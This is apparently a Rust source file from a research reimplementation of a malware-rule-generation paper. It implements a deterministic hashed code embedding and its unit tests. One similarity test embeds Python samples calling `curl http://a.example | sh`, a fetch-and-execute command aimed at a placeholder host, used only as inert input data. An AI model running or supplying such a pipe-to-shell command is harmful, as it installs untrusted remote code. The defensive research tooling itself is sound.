//! `rulellm-embedding` — CodeBERT-sim code embeddings.
//!
//! §III-B of the paper converts source code to vectors: split into
//! 512-token segments, embed each segment with CodeBERT, and combine.
//! CodeBERT itself is a 125M-parameter network we cannot ship, so this
//! crate substitutes a *deterministic lexical embedding* (DESIGN.md,
//! substitution table): each segment's tokens are hashed (unigrams and
//! bigrams) into a fixed-dimension bag-of-features vector and normalized.
//! The property clustering depends on — similar code maps to nearby
//! vectors, unrelated code maps to distant vectors — is preserved, and
//! determinism makes every downstream table reproducible.
//!
//! # Examples
//!
//! ```
//! use embedding::Embedder;
//!
//! let embedder = Embedder::default();
//! let a = embedder.embed_source("import os\nos.system('x')\n");
//! let b = embedder.embed_source("import os\nos.system('y')\n");
//! let c = embedder.embed_source("class Tree:\n    pass\n");
//! assert!(embedding::cosine(&a.mean, &b.mean) > embedding::cosine(&a.mean, &c.mean));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::borrow::Cow;
use std::slice::Chunks;

use digest::Fnv1a;
use pysrc::Kind;

/// Embedding dimensionality. 128 keeps K-Means over thousands of snippets
/// fast while leaving hash collisions rare enough for separation.
pub const DIM: usize = 128;

/// Segment length in tokens, matching the paper's 512 threshold (§III-B).
pub const SEGMENT_TOKENS: usize = 512;

/// The embedding of one source unit.
#[derive(Debug, Clone, PartialEq)]
pub struct SourceEmbedding {
    /// Per-segment vectors (the paper's `v_i = f(code_i)`).
    pub segments: Vec<Vec<f32>>,
    /// Mean-pooled vector used for clustering.
    ///
    /// The paper concatenates segment vectors into `V_code`; concatenation
    /// produces variable-length vectors that K-Means cannot consume, so we
    /// pool — the standard fixed-length reduction (documented
    /// substitution).
    pub mean: Vec<f32>,
}

/// Deterministic code embedder.
#[derive(Debug, Clone)]
pub struct Embedder {
    dim: usize,
    segment_tokens: usize,
}

impl Default for Embedder {
    fn default() -> Self {
        Embedder {
            dim: DIM,
            segment_tokens: SEGMENT_TOKENS,
        }
    }
}

impl Embedder {
    /// Creates an embedder with custom dimensionality and segment length.
    ///
    /// # Panics
    ///
    /// Panics if `dim` or `segment_tokens` is zero.
    pub fn new(dim: usize, segment_tokens: usize) -> Self {
        assert!(dim > 0, "embedding dimension must be positive");
        assert!(segment_tokens > 0, "segment length must be positive");
        Embedder {
            dim,
            segment_tokens,
        }
    }

    /// Embedding dimensionality.
    pub fn dim(&self) -> usize {
        self.dim
    }

    /// Tokenizes `source` into the features the embedding hashes, each
    /// borrowing `source`: the token text, a string literal's `'value'`
    /// (owned only when the literal's value had to be decoded), or the
    /// `<str>` marker a literal longer than 24 bytes collapses to, so that
    /// payload bytes don't dominate similarity; such a literal's value is
    /// measured, never decoded.
    pub fn tokenize<'s>(&self, source: &'s str) -> Vec<Feature<'s>> {
        let tokens = pysrc::lex(source);
        let mut features = Vec::with_capacity(tokens.len());
        features.extend(tokens.iter().filter_map(|t| match t.kind {
            Kind::IDENT | Kind::NUMBER => Some(Feature::Text(t.text(source))),
            Kind::STR if t.value_len(source) > 24 => Some(Feature::LongStr),
            Kind::STR => Some(Feature::Str(t.value(source))),
            op => op.op_text().map(Feature::Text),
        }));
        features
    }

    /// Splits features into fixed-length segments (paper step 1).
    pub fn split_segments<'f, 's>(&self, features: &'f [Feature<'s>]) -> Chunks<'f, Feature<'s>> {
        features.chunks(self.segment_tokens)
    }

    /// Embeds one feature segment into a unit-norm vector (paper step 2):
    /// each feature hashed with weight 1, then each adjacent pair, joined
    /// by `\u{1}`, with weight ½.
    pub fn embed_segment(&self, features: &[Feature<'_>]) -> Vec<f32> {
        let mut v = vec![0f32; self.dim];
        for feature in features {
            let mut h = Fnv1a::new();
            feature.hash_into(&mut h);
            bump(&mut v, h.finish(), 1.0);
        }
        for pair in features.windows(2) {
            let mut h = Fnv1a::new();
            pair[0].hash_into(&mut h);
            h.update("\u{1}".as_bytes());
            pair[1].hash_into(&mut h);
            bump(&mut v, h.finish(), 0.5);
        }
        normalize(&mut v);
        v
    }

    /// Embeds a whole source unit (paper step 3: combine segments).
    pub fn embed_source(&self, source: &str) -> SourceEmbedding {
        let features = self.tokenize(source);
        let segments: Vec<Vec<f32>> = self
            .split_segments(&features)
            .map(|seg| self.embed_segment(seg))
            .collect();
        let mut mean = vec![0f32; self.dim];
        if !segments.is_empty() {
            for seg in &segments {
                for (m, s) in mean.iter_mut().zip(seg) {
                    *m += s;
                }
            }
            for m in &mut mean {
                *m /= segments.len() as f32;
            }
            normalize(&mut mean);
        }
        SourceEmbedding { segments, mean }
    }
}

/// One token of a source as the embedding sees it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Feature<'s> {
    /// An identifier, number or operator, as written.
    Text(&'s str),
    /// A string literal of at most 24 bytes, read as its value in quotes:
    /// `'value'`.
    Str(Cow<'s, str>),
    /// A longer string literal, read as `<str>`.
    LongStr,
}

impl Feature<'_> {
    /// Feeds the feature's text to `h` in parts.
    fn hash_into(&self, h: &mut Fnv1a) {
        match self {
            Feature::Text(text) => h.update(text.as_bytes()),
            Feature::Str(value) => {
                h.update(b"'");
                h.update(value.as_bytes());
                h.update(b"'");
            }
            Feature::LongStr => h.update(b"<str>"),
        }
    }
}

fn bump(v: &mut [f32], h: u64, weight: f32) {
    let idx = (h % v.len() as u64) as usize;
    // Signed hashing halves collision bias.
    let sign = if (h >> 63) == 0 { 1.0 } else { -1.0 };
    v[idx] += weight * sign;
}

fn normalize(v: &mut [f32]) {
    let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt();
    if norm > 0.0 {
        for x in v.iter_mut() {
            *x /= norm;
        }
    }
}

/// Cosine similarity between two vectors.
///
/// # Panics
///
/// Panics if the vectors have different lengths.
pub fn cosine(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "vector length mismatch");
    let dot: f32 = a.iter().zip(b).map(|(x, y)| x * y).sum();
    let na: f32 = a.iter().map(|x| x * x).sum::<f32>().sqrt();
    let nb: f32 = b.iter().map(|x| x * x).sum::<f32>().sqrt();
    if na == 0.0 || nb == 0.0 {
        0.0
    } else {
        dot / (na * nb)
    }
}

/// Euclidean distance between two vectors (the paper's cluster metric).
///
/// # Panics
///
/// Panics if the vectors have different lengths.
pub fn euclidean(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "vector length mismatch");
    a.iter()
        .zip(b)
        .map(|(x, y)| (x - y) * (x - y))
        .sum::<f32>()
        .sqrt()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A feature's text, as the bytes its hash reads.
    fn text(feature: &Feature<'_>) -> String {
        match feature {
            Feature::Text(text) => text.to_string(),
            Feature::Str(value) => format!("'{value}'"),
            Feature::LongStr => "<str>".to_owned(),
        }
    }

    #[test]
    fn deterministic() {
        let e = Embedder::default();
        let a = e.embed_source("os.system(cmd)\n");
        let b = e.embed_source("os.system(cmd)\n");
        assert_eq!(a, b);
    }

    #[test]
    fn unit_norm() {
        let e = Embedder::default();
        let v = e.embed_source("import socket\n").mean;
        let norm: f32 = v.iter().map(|x| x * x).sum::<f32>().sqrt();
        assert!((norm - 1.0).abs() < 1e-4);
    }

    #[test]
    fn similar_code_is_closer_than_different_code() {
        let e = Embedder::default();
        let a = e.embed_source("import os\nos.system('curl http://a.example | sh')\n");
        let b = e.embed_source("import os\nos.system('curl http://b.example | sh')\n");
        let c = e.embed_source("def fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)\n");
        assert!(cosine(&a.mean, &b.mean) > 0.6);
        assert!(cosine(&a.mean, &b.mean) > cosine(&a.mean, &c.mean) + 0.2);
    }

    #[test]
    fn long_strings_collapse() {
        let e = Embedder::default();
        let a = e.embed_source("p = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n");
        let b = e.embed_source("p = 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'\n");
        assert!(cosine(&a.mean, &b.mean) > 0.99);
    }

    #[test]
    fn segments_split_at_threshold() {
        let e = Embedder::new(32, 10);
        let source = "a = 1\n".repeat(50);
        let tokens = e.tokenize(&source);
        let segs: Vec<_> = e.split_segments(&tokens).collect();
        assert!(segs.len() > 1);
        assert!(segs.iter().all(|s| s.len() <= 10));
        let total: usize = segs.iter().map(|s| s.len()).sum();
        assert_eq!(total, tokens.len());
    }

    #[test]
    fn features_borrow_the_source_unless_a_literal_is_decoded() {
        let e = Embedder::default();
        let src = "x = 'plain' + 'tab\\t' + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n";
        let features = e.tokenize(src);
        let texts: Vec<String> = features.iter().map(text).collect();
        assert_eq!(texts, ["x", "=", "'plain'", "+", "'tab\t'", "+", "<str>"]);
        assert!(matches!(features[2], Feature::Str(Cow::Borrowed(_))));
        assert!(matches!(features[4], Feature::Str(Cow::Owned(_))));
    }

    #[test]
    fn a_feature_hashes_its_text_and_a_pair_hashes_both_joined() {
        let e = Embedder::default();
        let features = e.tokenize("os.system('id') + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n");
        let mut expected = vec![0f32; DIM];
        let texts: Vec<String> = features.iter().map(text).collect();
        for text in &texts {
            bump(&mut expected, digest::fnv1a(text.as_bytes()), 1.0);
        }
        for pair in texts.windows(2) {
            let joined = format!("{}\u{1}{}", pair[0], pair[1]);
            bump(&mut expected, digest::fnv1a(joined.as_bytes()), 0.5);
        }
        normalize(&mut expected);
        assert_eq!(e.embed_segment(&features), expected);
    }

    #[test]
    fn empty_source_is_zero_vector() {
        let e = Embedder::default();
        let emb = e.embed_source("");
        assert!(emb.segments.is_empty());
        assert!(emb.mean.iter().all(|&x| x == 0.0));
    }

    #[test]
    fn cosine_bounds() {
        let e = Embedder::default();
        let a = e.embed_source("x = 1\n").mean;
        assert!((cosine(&a, &a) - 1.0).abs() < 1e-5);
    }

    #[test]
    fn euclidean_zero_for_identical() {
        let e = Embedder::default();
        let a = e.embed_source("x = 1\n").mean;
        assert_eq!(euclidean(&a, &a), 0.0);
    }

    #[test]
    #[should_panic(expected = "length mismatch")]
    fn cosine_length_mismatch_panics() {
        let _ = cosine(&[1.0], &[1.0, 2.0]);
    }

    #[test]
    #[should_panic(expected = "must be positive")]
    fn zero_dim_panics() {
        let _ = Embedder::new(0, 512);
    }
}
